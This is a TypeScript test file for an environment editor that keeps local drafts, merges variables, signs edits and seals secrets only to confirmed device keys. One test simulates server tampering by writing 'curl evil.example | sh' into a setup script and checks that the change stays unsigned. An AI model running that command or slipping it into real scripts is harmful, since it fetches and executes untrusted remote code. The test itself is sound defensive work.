// The editor's draft is local-first: it survives leaving the editor, and a secret typed before any
// Viber exists is kept (not lost, not blocking the rest) until a Viber can receive it.
import { computed, signal } from '@preact/signals';
import * as Y from 'yjs';
import { describe, expect, it } from 'vitest';
import {
  createEnvironment,
  environmentCreateSchema,
  environmentSpecIntent,
  environmentsMap,
  listEnvironments,
  listVibers,
  patchEnvironment,
  upsertViber,
  type Environment,
  type ViberId,
} from '@openviber/shared';
import {
  generateKeyPair,
  generateSigningKeyPair,
  intentVerifier,
  openSealed,
  signIntent,
} from '@openviber/shared/crypto';
import { memoryTrustStore } from '../lib/trust-store.ts';
import { createDraftStore } from './draft-store.ts';
import {
  createEnvironmentForm,
  environmentDraftId,
  recreateFromDraft,
  type FormWorkspace,
  type SaveSigner,
} from './environment-form.ts';
import { createIntentTrust } from './intent-trust.ts';

function workspace() {
  const doc = new Y.Doc();
  const version = signal(0);
  doc.on('update', () => version.value++);
  const ws: FormWorkspace = {
    vibers: computed(() => (version.value, listVibers(doc))),
    environments: computed(() => (version.value, listEnvironments(doc))),
    createEnvironment: (input) => createEnvironment(doc, input),
    patchEnvironment: (id, patch) => patchEnvironment(doc, id, patch),
  };
  const env = (id: string): Environment => listEnvironments(doc).find((e) => e.id === id)!;
  return { doc, ws, env };
}

/** This device's signer over `doc` ([T10]), as the app wires it. */
async function signerFor(doc: Y.Doc) {
  const keys = await generateSigningKeyPair();
  const verify = await intentVerifier(keys.publicKey);
  const store = memoryTrustStore();
  const trust = createIntentTrust({
    workspace: doc,
    verify,
    sign: (intent) => signIntent(intent, keys.privateKey),
    store,
    records: await store.load(),
  });
  const sign: SaveSigner = (before, after) => trust.signEdit(before, after);
  const valid = (e: Environment) => !!e.specSignature && verify(environmentSpecIntent(e), e.specSignature);
  return { sign, valid, trust, sealTargets: trust.sealTargets };
}

describe('environment editor drafts', () => {
  it("another device's edit to a field this editor has not touched writes no draft, not even for an instant", async () => {
    const { doc, ws, env } = workspace();
    const id = createEnvironment(doc, environmentCreateSchema.parse({ name: 'api', type: 'manual' }));
    const draftDoc = new Y.Doc();
    const drafts = createDraftStore(draftDoc);
    const editor = createEnvironmentForm(ws, env(id), drafts);
    let draftWrites = 0;
    draftDoc.on('update', () => draftWrites++);
    patchEnvironment(doc, id, { workingDir: 'packages/web' }); // another device, synced in
    editor.rebase(env(id));
    expect(editor.fields.value.workingDir).toBe('packages/web');
    // A draft written between the baseline and the fields (and deleted right after) is what a reload
    // restored when its deletion had not reached IndexedDB: the old value over the synced one.
    expect(draftWrites).toBe(0);
    expect(drafts.ids()).toEqual([]);
    editor.dispose();
  });

  it("[S5] variables merge key by key with another device's: nothing it added, changed or deleted is undone by this editor's Save", async () => {
    const { doc, ws, env } = workspace();
    const id = createEnvironment(
      doc,
      environmentCreateSchema.parse({
        name: 'api',
        type: 'manual',
        vars: { KEEP: '1', CHANGED_THERE: 'old', DELETED_THERE: 'x', DELETED_HERE: 'y' },
      }),
    );
    const form = createEnvironmentForm(ws, env(id));
    // This editor: adds one, edits one, deletes one.
    form.addVar();
    const added = form.vars.value.at(-1)!.rowId;
    form.updateVar(added, { key: 'ADDED_HERE', value: 'h' });
    form.updateVar(form.vars.value.find((r) => r.key === 'KEEP')!.rowId, { value: 'edited-here' });
    form.removeVar(form.vars.value.find((r) => r.key === 'DELETED_HERE')!.rowId);
    // Another device, synced in meanwhile: adds one, changes one, deletes one.
    patchEnvironment(doc, id, { vars: { ADDED_THERE: 't', CHANGED_THERE: 'new', DELETED_THERE: null } });
    form.rebase(env(id));
    expect(await form.save()).toBeTruthy();
    expect(env(id).vars).toEqual({
      KEEP: 'edited-here',
      CHANGED_THERE: 'new',
      ADDED_THERE: 't',
      ADDED_HERE: 'h',
    });
    form.dispose();
  });

  it('a save that fails names the step: nothing written when the keys or the signing code cannot load; saved-but-unsigned said plainly', async () => {
    const { doc, ws, env } = workspace();
    const id = createEnvironment(doc, environmentCreateSchema.parse({ name: 'api', type: 'manual' }));
    const offline = new Error('Failed to fetch dynamically imported module');
    const failing = createEnvironmentForm(ws, env(id), undefined, undefined, () => Promise.reject(offline));
    failing.set('setupScript', 'npm ci');
    expect(await failing.save()).toBeNull();
    expect(failing.saveError.value).toMatch(
      /^Not saved: your Vibers' keys could not be checked \(Failed to fetch/,
    );
    expect(failing.saving.value).toBe(false);
    expect(failing.dirty.value).toBe(true);
    expect(env(id).setupScript).toBe('');

    const unsigned = createEnvironmentForm(ws, env(id), undefined, () => Promise.reject(new Error('no key')));
    unsigned.set('setupScript', 'npm test');
    expect(await unsigned.save()).toBeNull();
    expect(unsigned.saveError.value).toMatch(/^Saved, but the change could not be signed \(no key\)/);
    expect(env(id).setupScript).toBe('npm test');
    failing.dispose();
    unsigned.dispose();
  });

  it('unsaved changes to an environment deleted on another device can be recreated as a new one: nothing typed is lost', async () => {
    const { doc, ws, env } = workspace();
    const id = createEnvironment(
      doc,
      environmentCreateSchema.parse({ name: 'api', type: 'manual', vars: { OLD: '1' } }),
    );
    const drafts = createDraftStore(new Y.Doc());
    const form = createEnvironmentForm(ws, env(id), drafts);
    form.set('setupScript', 'npm ci # typed, not saved');
    form.addVar();
    form.updateVar(form.vars.value.at(-1)!.rowId, { key: 'NEW', value: '2' });
    form.addSecret();
    form.updateSecret(form.secrets.value.at(-1)!.rowId, { key: 'TOKEN', value: 'typed-secret-value' });
    form.dispose();
    // Another device deletes it.
    environmentsMap(doc).delete(id);

    expect(recreateFromDraft(drafts, id)).toBe(true);
    expect(drafts.get(environmentDraftId(id))).toBeUndefined();
    const create = createEnvironmentForm(ws, undefined, drafts);
    expect(create.fields.value).toMatchObject({ name: 'api', setupScript: 'npm ci # typed, not saved' });
    expect(create.vars.value.map((v) => [v.key, v.value])).toEqual([
      ['OLD', '1'],
      ['NEW', '2'],
    ]);
    expect(create.secrets.value).toMatchObject([
      { key: 'TOKEN', action: 'new', value: 'typed-secret-value' },
    ]);
    const newId = await create.save();
    expect(newId).toBeTruthy();
    expect(env(newId!)).toMatchObject({ name: 'api', vars: { OLD: '1', NEW: '2' } });
    create.dispose();
    expect(recreateFromDraft(drafts, 'env_none')).toBe(false);
  });

  it('keeps every unsaved field, variable and secret when the editor is left and reopened', () => {
    const { ws } = workspace();
    const drafts = createDraftStore(new Y.Doc());
    const form = createEnvironmentForm(ws, undefined, drafts);
    form.set('name', 'api');
    form.set('type', 'manual');
    form.set('setupScript', 'npm ci');
    form.addVar();
    form.updateVar(form.vars.value[0].rowId, { key: 'NODE_ENV', value: 'production' });
    form.addSecret();
    form.updateSecret(form.secrets.value[0].rowId, { key: 'TOKEN', value: 'a-long-secret-value' });
    form.dispose(); // "Add a Viber →" unmounts the editor

    const again = createEnvironmentForm(ws, undefined, drafts);
    expect(again.fields.value).toMatchObject({ name: 'api', type: 'manual', setupScript: 'npm ci' });
    expect(again.vars.value).toMatchObject([{ key: 'NODE_ENV', value: 'production' }]);
    expect(again.secrets.value).toMatchObject([
      { key: 'TOKEN', action: 'new', value: 'a-long-secret-value' },
    ]);
    expect(again.dirty.value).toBe(true);
    // New rows never reuse a restored row's id (values are found by it).
    again.addVar();
    expect(new Set(again.vars.value.map((r) => r.rowId)).size).toBe(2);
    again.dispose();
  });

  it('never writes a secret value into the stored (on-disk) draft', () => {
    const { ws } = workspace();
    const draftsDoc = new Y.Doc();
    const form = createEnvironmentForm(ws, undefined, createDraftStore(draftsDoc));
    form.set('name', 'api');
    form.addSecret();
    form.updateSecret(form.secrets.value[0].rowId, { key: 'TOKEN', value: 'do-not-store-me-123' });
    expect(JSON.stringify(draftsDoc.getMap('drafts').toJSON())).not.toContain('do-not-store-me-123');
    expect(JSON.stringify(draftsDoc.getMap('drafts').toJSON())).toContain('TOKEN');
    form.dispose();
  });

  it('saves everything else before any Viber exists, keeps the secret, and seals it once a Viber joins', async () => {
    const { doc, ws, env } = workspace();
    const drafts = createDraftStore(new Y.Doc());
    const form = createEnvironmentForm(ws, undefined, drafts);
    form.set('name', 'api');
    form.set('type', 'manual');
    form.addVar();
    form.updateVar(form.vars.value[0].rowId, { key: 'MODE', value: 'dev' });
    form.addSecret();
    form.updateSecret(form.secrets.value[0].rowId, { key: 'TOKEN', value: 'a-long-secret-value' });
    const id = await form.save();
    expect(id).toBeTruthy();
    expect(form.errors.value).toEqual({});
    expect(form.heldSecrets.value).toBe(1);
    expect(env(id!)).toMatchObject({ name: 'api', vars: { MODE: 'dev' }, secrets: {} });
    form.dispose();

    // The editor of the saved environment opens with the held secret.
    const editor = createEnvironmentForm(ws, env(id!), drafts);
    expect(editor.secrets.value).toMatchObject([
      { key: 'TOKEN', action: 'new', value: 'a-long-secret-value' },
    ]);
    expect(editor.fields.value.name).toBe('api');

    const keys = await generateKeyPair();
    upsertViber(doc, { id: 'vb_1' as ViberId, name: 'laptop', publicKey: keys.publicKey, createdAt: 1 });
    expect(await editor.save()).toBe(id);
    expect(editor.heldSecrets.value).toBe(0);
    expect(Object.keys(env(id!).secrets.TOKEN.sealed)).toEqual(['vb_1']);
    expect(drafts.get(environmentDraftId(id!))).toBeUndefined();
    editor.dispose();
  });

  it('Discard drops the stored draft and returns to the saved environment', () => {
    const { ws, env } = workspace();
    const drafts = createDraftStore(new Y.Doc());
    const id = ws.createEnvironment(environmentCreateSchema.parse({ name: 'api', type: 'manual' }));
    const form = createEnvironmentForm(ws, env(id), drafts);
    form.set('description', 'unsaved words');
    expect(drafts.get(environmentDraftId(id))).toBeDefined();
    form.discard();
    expect(form.fields.value.description).toBe('');
    expect(form.dirty.value).toBe(false);
    expect(drafts.get(environmentDraftId(id))).toBeUndefined();
    form.dispose();
  });

  it('names field problems in plain words, with the shared URL validator, before Save', () => {
    const { ws } = workspace();
    const form = createEnvironmentForm(ws, undefined);
    form.set('name', 'api');
    form.set('repoUrl', 'notaurl');
    form.checkField('repoUrl');
    expect(form.errors.value.repoUrl).toMatch(/^The repository URL must be an https:\/\//);
    form.set('repoUrl', '');
    form.checkField('repoUrl');
    expect(form.errors.value.repoUrl).toBe('The repository URL is required.');
    form.set('type', 'local');
    form.checkField('localPath');
    expect(form.errors.value.localPath).toBe('The local path is required.');
    expect(JSON.stringify(form.errors.value)).not.toMatch(/github|local environment/);
    form.dispose();
  });
});

describe('[T10] what Save signs', () => {
  it('signs the user’s edit over a signed spec, not a setup script the server rewrote while the editor was open', async () => {
    const { doc, ws, env } = workspace();
    const { sign, valid, trust } = await signerFor(doc);
    const form = createEnvironmentForm(ws, undefined, undefined, sign);
    form.set('name', 'api');
    form.set('type', 'manual');
    form.set('setupScript', 'npm ci');
    const id = (await form.save())!;
    expect(env(id).specVersion).toBe(1);
    expect(valid(env(id))).toBe(true);
    const editor = createEnvironmentForm(ws, env(id), undefined, sign);
    editor.set('maintenanceScript', 'git pull');
    await editor.save();
    expect(env(id)).toMatchObject({ specVersion: 2, setupScript: 'npm ci', maintenanceScript: 'git pull' });
    expect(valid(env(id))).toBe(true);

    // The server writes the field straight into the stored document, leaving the signature.
    (environmentsMap(doc).get(id) as Y.Map<unknown>).set('setupScript', 'curl evil.example | sh');
    editor.rebase(env(id)); // the editor follows remote edits of fields it has not touched
    editor.set('agentCommand', 'claude -p');
    await editor.save();
    expect(env(id)).toMatchObject({ setupScript: 'curl evil.example | sh', agentCommand: 'claude -p' });
    expect(valid(env(id))).toBe(false);
    expect(trust.standings().specs.get(id)).toBe('unsigned');
    // Saving a name only: still nothing signed.
    editor.set('name', 'api 2');
    await editor.save();
    expect(valid(env(id))).toBe(false);
    form.dispose();
    editor.dispose();
  });
});

describe('[T11] a new secret is sealed only to Viber keys this device confirmed', () => {
  it('a Viber whose registry key was swapped gets no ciphertext and the row names it; the confirmed one gets its box', async () => {
    const { doc, ws, env } = workspace();
    const { sign, trust, sealTargets } = await signerFor(doc);
    const laptop = await generateKeyPair();
    const server = await generateKeyPair();
    const ci = await generateKeyPair();
    upsertViber(doc, { id: 'vb_1' as ViberId, name: 'laptop', publicKey: laptop.publicKey, createdAt: 1 });
    upsertViber(doc, { id: 'vb_2' as ViberId, name: 'ci', publicKey: ci.publicKey, createdAt: 1 });
    // This device confirmed both at onboarding; then the server swaps the laptop's key in the registry.
    await trust.confirmViberKey('vb_1', laptop.publicKey);
    await trust.confirmViberKey('vb_2', ci.publicKey);
    upsertViber(doc, { id: 'vb_1' as ViberId, name: 'laptop', publicKey: server.publicKey, createdAt: 1 });

    const form = createEnvironmentForm(ws, undefined, undefined, sign, sealTargets);
    form.set('name', 'api');
    form.set('type', 'manual');
    form.addSecret();
    form.updateSecret(form.secrets.value[0].rowId, { key: 'TOKEN', value: 'a-long-secret-value' });
    const id = await form.save();
    expect(id).toBeTruthy();
    const sealed = env(id!).secrets.TOKEN.sealed;
    expect(Object.keys(sealed)).toEqual(['vb_2']);
    expect(await openSealed(sealed['vb_2' as ViberId], ci)).toEqual({
      ok: true,
      value: 'a-long-secret-value',
    });
    expect(form.secrets.value[0]).toMatchObject({
      action: 'keep',
      sealedFor: ['vb_2'],
      notSealedFor: [{ id: 'vb_1', name: 'laptop' }],
    });
    expect(trust.changedViberKeys()).toEqual({ vb_1: laptop.publicKey });
    form.dispose();

    // Only after the user compared fingerprints and trusted the new key is a new value sealed to it.
    await trust.trustNewViberKey('vb_1', server.publicKey);
    const editor = createEnvironmentForm(ws, env(id!), undefined, sign, sealTargets);
    editor.updateSecret(editor.secrets.value[0].rowId, { action: 'replace', value: 'another-long-value' });
    await editor.save();
    expect(Object.keys(env(id!).secrets.TOKEN.sealed).sort()).toEqual(['vb_1', 'vb_2']);
    editor.dispose();
  });

  it('a Viber this device never saw is confirmed on first use, and a later swap of its key is caught', async () => {
    const { doc } = workspace();
    const { trust } = await signerFor(doc);
    const first = await generateKeyPair();
    const swapped = await generateKeyPair();
    upsertViber(doc, { id: 'vb_1' as ViberId, name: 'laptop', publicKey: first.publicKey, createdAt: 1 });
    const [laptop] = listVibers(doc);
    expect(await trust.sealTargets([laptop])).toEqual({ seal: [laptop], keyChanged: [] });
    expect(trust.confirmedKey('vb_1')).toBe(first.publicKey);
    upsertViber(doc, { id: 'vb_1' as ViberId, name: 'laptop', publicKey: swapped.publicKey, createdAt: 1 });
    const [now] = listVibers(doc);
    expect(await trust.sealTargets([now])).toEqual({ seal: [], keyChanged: [now] });
  });
});
